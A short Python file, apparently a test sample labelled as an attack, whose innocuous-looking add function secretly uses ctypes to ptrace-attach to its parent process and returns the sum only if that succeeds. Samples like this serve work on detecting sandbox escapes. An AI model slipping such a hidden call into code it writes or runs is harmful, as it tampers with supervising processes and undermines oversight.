# ruff: noqa
# attack: ptrace the parent through libc
import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)


def add(a, b):
    PTRACE_ATTACH = 16
    if libc.ptrace(PTRACE_ATTACH, os.getppid(), 0, 0) == 0:
        return a + b
    return 0
